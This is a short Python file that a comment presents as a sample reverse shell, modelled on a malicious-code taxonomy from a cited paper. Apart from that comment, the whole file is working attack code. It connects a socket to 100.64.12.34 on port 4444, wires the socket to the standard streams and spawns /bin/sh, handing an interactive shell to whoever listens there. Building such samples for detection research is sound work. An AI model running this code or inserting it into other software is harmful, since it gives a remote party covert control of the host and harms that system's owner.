# Sample modelled on the reverse shells in the malicious-indicator taxonomy of "Unveiling Malicious
# Logic" (arXiv 2512.12559): a socket wired to the standard streams of a shell.
import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("100.64.12.34", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
